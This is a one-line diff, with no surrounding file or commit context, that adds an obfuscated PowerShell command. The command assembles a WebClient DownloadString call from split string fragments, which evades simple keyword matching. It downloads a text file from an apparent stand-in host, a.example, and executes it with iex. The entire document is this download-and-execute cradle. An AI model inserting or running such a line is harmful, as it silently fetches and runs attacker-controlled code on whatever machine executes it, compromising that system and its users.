@@ -1,0 +1,1 @@
+$p=@('(New-Object Net.Web','Client).Download','String("http://a.example/p/x.txt")');iex ($p -join '')
